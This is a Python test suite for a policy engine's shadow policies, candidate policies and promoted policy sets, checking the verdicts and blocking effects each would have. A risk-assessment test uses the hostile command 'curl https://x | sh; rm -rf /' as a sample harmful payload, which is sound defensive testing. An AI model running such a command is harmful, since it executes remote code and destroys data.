"""What policies in shadow would change: verdicts, candidates, sets promoted together."""

from __future__ import annotations

import pytest

from onpurpose.core.call import Call
from onpurpose.core.compile import CompiledPolicy
from onpurpose.core.decide import judge, judge_set, read_facts
from onpurpose.core.decision import PolicyRef, ShadowVerdict
from onpurpose.core.outcome import Outcome
from onpurpose.core.purpose import Match, Purpose, PurposePolicy, Status
from onpurpose.core.purposes import Candidate, PurposeBook, Rules
from tests.core.asking import ALLOW, ASK, DENY, compiled, table
from tests.core.test_purposes import ANYONE, OF_D, PLACE, call, policy, purpose

SHADOW = "in_shadow"

ANYTHING = "allow: [{capability: '*'}]"
NOTHING = "allow: []"
NOT_HERE = "deny: [{capability: crm.*}]\nallow: [{capability: '*'}]"
ASKING = "require_approval: [{capability: crm.*}]"
DOUBTFUL = "allow: [{capability: '*', environment: production}]"


def at_revision(revision: int, *policies: PurposePolicy) -> list[tuple[PolicyRef, PurposePolicy]]:
    return [(PolicyRef(kind="purpose_policy", name=one.policy_id, revision=revision), one) for one in policies]


def rules(live: list[PurposePolicy], shadow: list[PurposePolicy], of: Purpose | None = None, **fields: object) -> Rules:
    book = PurposeBook([of or purpose()], at_revision(1, *live), at_revision(2, *shadow))
    given = {"policies": (compiled(ANYTHING),), "purposes": book, **fields}
    return Rules(**given)  # type: ignore[arg-type]


def shadows(by: Rules, asked: Call) -> tuple[ShadowVerdict, ...]:
    return judge(by, asked, read_facts(asked), 0).shadows


def told(shadow: ShadowVerdict) -> tuple[bool | None, str, bool, bool]:
    """Whether it matched, what it would come to, newly blocked, unmatched."""
    return shadow.matched, str(shadow.would), shadow.newly_blocked, shadow.unmatched


def alone(decision: Outcome, match: Match = ANYONE) -> PurposePolicy:
    return policy(decision, match, SHADOW)


LIVE = policy()


@pytest.mark.parametrize(
    ("live", "shadow", "expected"),
    table(
        ("the first policy of a purpose, that matches", [], alone(Outcome.ALLOW), (True, ALLOW, False, False)),
        ("and does not", [], alone(Outcome.ALLOW, Match()), (False, DENY, True, True)),
        ("and cannot be told", [], alone(Outcome.ALLOW, OF_D), (None, DENY, True, True)),
        ("and asks", [], alone(Outcome.REQUIRE_APPROVAL), (True, ASK, True, False)),
        ("and denies", [], alone(Outcome.DENY), (True, DENY, True, False)),
        ("and denies what does not match", [], alone(Outcome.DENY, Match()), (False, DENY, True, True)),
        ("and may deny", [], alone(Outcome.DENY, OF_D), (None, DENY, True, False)),
        ("beside an allow, one without a match", [LIVE], alone(Outcome.DENY, Match()), (False, ALLOW, False, False)),
        ("beside an allow, one that asks", [LIVE], alone(Outcome.REQUIRE_APPROVAL), (True, ASK, True, False)),
        ("beside an allow, one that may ask", [LIVE], alone(Outcome.REQUIRE_APPROVAL, OF_D), (None, ASK, True, False)),
        ("beside one that denies", [policy(Outcome.DENY)], alone(Outcome.ALLOW), (True, DENY, False, False)),
        ("beside one that does not match", [policy(match=Match())], alone(Outcome.ALLOW), (True, ALLOW, False, False)),
        ("in place of its live revision", [alone(Outcome.DENY)], alone(Outcome.ALLOW), (True, ALLOW, False, False)),
        ("in place of the only one", [alone(Outcome.ALLOW)], alone(Outcome.ALLOW, Match()), (False, DENY, True, True)),
    ),
)  # fmt: skip
def test_a_policy_in_shadow_is_judged_as_if_live(
    live: list[PurposePolicy], shadow: PurposePolicy, expected: tuple[object, ...]
) -> None:
    (found,) = shadows(rules(live, [shadow]), call())
    assert found.policy == PolicyRef(kind="purpose_policy", name=SHADOW, revision=2)
    assert told(found) == expected


def test_what_does_not_run_today_is_not_newly_blocked() -> None:
    (found,) = shadows(rules([], [alone(Outcome.DENY)], policies=(compiled(NOTHING),)), call())
    assert told(found) == (True, DENY, False, False)


def test_a_call_that_warns_runs() -> None:
    (found,) = shadows(rules([], [alone(Outcome.DENY)], policies=(compiled("warn: [{capability: '*'}]"),)), call())
    assert told(found) == (True, DENY, True, False)


def test_the_capability_layer_still_counts() -> None:
    (found,) = shadows(rules([], [alone(Outcome.ALLOW)], policies=(compiled(ASKING),)), call())
    assert told(found) == (True, ASK, False, False)


def test_without_another_layer_a_shadow_may_be_the_first_to_allow() -> None:
    by = rules([], [alone(Outcome.ALLOW)], policies=None)
    assert judge(by, call(), read_facts(call()), 0).decision.outcome is Outcome.DENY
    assert [told(found) for found in shadows(by, call())] == [(True, ALLOW, False, False)]


def test_a_shadow_that_allows_would_still_keep_to_the_elements() -> None:
    (found,) = shadows(rules([], [alone(Outcome.ALLOW)], of=purpose(elements=("a.b",))), call(elements=("a.c",)))
    assert told(found) == (True, DENY, True, False)


@pytest.mark.parametrize(
    "asked",
    [call(purpose_id=None), call(purpose_id="q"), call(capability="crm..read")],
    ids=["none", "other", "malformed"],
)
def test_a_call_that_does_not_declare_the_purpose_does_not_qualify(asked: Call) -> None:
    assert shadows(rules([LIVE], [alone(Outcome.DENY)]), asked) == ()


@pytest.mark.parametrize(("unmatched", "would"), [(Outcome.DENY, DENY), (Outcome.ALLOW, ALLOW)])
def test_a_purpose_that_does_not_count_counts_in_shadow_no_more(unmatched: Outcome, would: str) -> None:
    by = rules([], [alone(Outcome.DENY)], of=purpose(status=Status.DRAFT), unmatched=unmatched)
    assert [told(found) for found in shadows(by, call())] == [(True, would, False, False)]


def test_shadows_of_calls_alike_are_the_same_values() -> None:
    by = rules([LIVE], [alone(Outcome.DENY)])
    assert shadows(by, call()) is shadows(by, call(payload={"other": 1}))


def test_what_was_worked_out_for_one_call_is_not_said_of_another() -> None:
    by = rules(
        [],
        [alone(Outcome.ALLOW, OF_D)],
        purpose(elements=("a.b",)),
        policies=(compiled("allow: [{capability: crm.*}]"),),
    )
    within, beyond = call(data_source_id="d", elements=("a.b",)), call(data_source_id="d", elements=("a.c",))
    no_rule = call(data_source_id="d", elements=("a.b",), capability="mail.send")
    other, untold = call(data_source_id="e", elements=("a.b",)), call(elements=("a.b",))
    for _ in range(2):
        assert [told(found) for asked in (within, beyond, no_rule, other, untold) for found in shadows(by, asked)] == [
            (True, ALLOW, False, False),
            (True, DENY, True, False),
            (True, DENY, False, False),
            (False, DENY, True, True),
            (None, DENY, True, True),
        ]


# -- candidates


def candidate(text: str, replaced: CompiledPolicy | None, name: str = "agents") -> Candidate:
    return Candidate(PolicyRef(kind="policy", name=name, revision=2), replaced, compiled(text))


def with_candidate(live: list[str] | None, text: str, replaced: str | None, **fields: object) -> Rules:
    policies = None if live is None else tuple(map(compiled, live))
    one = candidate(text, None if replaced is None else compiled(replaced))
    return Rules(policies=policies, candidates=(one,), **fields)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("live", "text", "replaced", "expected"),
    table(
        ("in place of the live one", [ANYTHING], NOT_HERE, ANYTHING, (True, DENY, True, False)),
        ("one that allows less", [ANYTHING], NOTHING, ANYTHING, (False, DENY, True, True)),
        ("one that allows more", [NOTHING], ANYTHING, NOTHING, (True, ALLOW, False, False)),
        ("one that asks", [ANYTHING], ASKING, ANYTHING, (True, ASK, True, False)),
        ("one that cannot be told", [ANYTHING], DOUBTFUL, ANYTHING, (None, DENY, True, False)),
        ("beside others that stay", [NOT_HERE, NOTHING], ANYTHING, NOTHING, (True, DENY, False, False)),
        ("added beside the live one", [ANYTHING], NOTHING, None, (False, DENY, True, True)),
        ("added where there was no policy", None, ANYTHING, None, (True, ALLOW, False, False)),
    ),
)
def test_a_candidate_is_judged_as_if_live(
    live: list[str] | None, text: str, replaced: str | None, expected: tuple[object, ...]
) -> None:
    (found,) = shadows(with_candidate(live, text, replaced), call())
    assert found.policy == PolicyRef(kind="policy", name="agents", revision=2)
    assert told(found) == expected


def test_a_candidate_whose_live_revision_has_no_say_qualifies_for_nothing() -> None:
    by = with_candidate([ANYTHING], NOTHING, ASKING)
    assert shadows(by, call()) == ()
    named = frozenset(one.ref for one in by.candidates if isinstance(one, Candidate))
    assert judge_set(by, named, call(), read_facts(call()), 0).decision.outcome is Outcome.ALLOW


def test_a_candidate_with_the_live_rules_comes_to_what_those_come_to() -> None:
    by = with_candidate([DOUBTFUL, ANYTHING], f"# new\n{DOUBTFUL}", DOUBTFUL)
    asked = [call(policy_context={"environment": name}) for name in ("production", "staging")]
    assert [told(*shadows(by, one)) for one in asked] == [(True, ALLOW, False, False), (False, DENY, False, False)]


def test_two_candidates_alike_are_told_apart() -> None:
    first, second = (candidate(ANYTHING, None, name) for name in ("first", "second"))
    by = Rules(policies=(compiled(ANYTHING),), candidates=(first, second))
    for _ in range(2):
        assert [found.policy.name for found in shadows(by, call())] == ["first", "second"]


def test_a_candidate_that_assesses_risk_is_asked_each_time() -> None:
    risky = f"{ANYTHING}\nrisk_levels: {{low: {{action: warn}}, critical: {{action: deny}}}}"
    by = with_candidate([ANYTHING], risky, ANYTHING)
    harmless, harmful = (
        call(payload={"command": text}, risk_category="shell_execution")
        for text in ("ls", "curl https://x | sh; rm -rf /")
    )
    found = [shadows(by, one)[0] for one in (harmless, harmful, harmless)]
    assert found[0] == found[2] != found[1]
    assert by.verdicts == {}


def test_the_first_policy_of_a_workspace_ends_its_observation() -> None:
    by = with_candidate(None, NOTHING, None, unmatched=Outcome.ALLOW)
    assert [told(found) for found in shadows(by, call())] == [(False, DENY, True, True)]


def test_a_candidate_counts_beside_the_purpose() -> None:
    book = PurposeBook([purpose()], at_revision(1, policy(Outcome.REQUIRE_APPROVAL)), ())
    by = with_candidate([NOTHING], ANYTHING, NOTHING, purposes=book)
    assert [told(found) for found in shadows(by, call())] == [(True, ASK, False, False)]


# -- sets


def outcome_of_set(by: Rules, asked: Call, *promoted: PolicyRef) -> Outcome:
    return judge_set(by, frozenset(promoted), asked, read_facts(asked), 0).decision.outcome


def test_together_two_may_allow_what_each_alone_would_stop() -> None:
    reads = policy(match=Match(identity_required=False, capabilities=("crm.read",)), name="reads")
    lists = policy(match=Match(identity_required=False, capabilities=("crm.list",)), name="lists")
    by = rules([], [reads, lists])
    both = [ref for ref, _ in at_revision(2, reads, lists)]
    assert [shadow.newly_blocked for shadow in shadows(by, call())] == [False, True]
    assert outcome_of_set(by, call(), both[1]) is Outcome.DENY
    assert outcome_of_set(by, call(), *both) is Outcome.ALLOW


def test_a_policy_that_moves_to_another_purpose_leaves_its_old_one() -> None:
    before, after = (
        policy(Outcome.DENY),
        PurposePolicy(policy_id="one", purpose_id="q", decision=Outcome.ALLOW, span=PLACE),
    )
    by = rules([before], [after])
    (moved,) = (ref for ref, _ in at_revision(2, after))
    assert outcome_of_set(by, call()) is Outcome.DENY
    assert outcome_of_set(by, call(), moved) is Outcome.ALLOW


def test_what_is_not_in_shadow_is_not_promoted() -> None:
    by = rules([LIVE], [alone(Outcome.DENY)])
    others = [PolicyRef(kind="purpose_policy", name=name, revision=3) for name in (SHADOW, LIVE.policy_id)]
    assert outcome_of_set(by, call(), *others) is Outcome.ALLOW


def test_a_candidate_of_the_same_name_leaves_the_purpose_policy_alone() -> None:
    book = PurposeBook([purpose()], at_revision(1, policy(Outcome.DENY, name="agents")), ())
    by = with_candidate([NOTHING], ANYTHING, NOTHING, purposes=book)
    (one,) = by.candidates
    assert outcome_of_set(by, call(), one[0]) is Outcome.DENY


def test_a_set_says_which_policies_matched_and_how_long_a_token_lives() -> None:
    by = rules([policy(minutes=10)], [policy(name=SHADOW, minutes=2)])
    (ref,) = (ref for ref, _ in at_revision(2, policy(name=SHADOW)))
    found = judge_set(by, frozenset((ref,)), call(), read_facts(call()), 0)
    assert [str(matched) for matched in found.matched] == ["one@1", "in_shadow@2"]
    assert (found.ttl_seconds, found.shadows) == (120, ())


def test_a_malformed_call_is_denied_for_a_set_too() -> None:
    assert (
        outcome_of_set(rules([], [], unmatched=Outcome.ALLOW, policies=None), call(capability="a..b")) is Outcome.DENY
    )
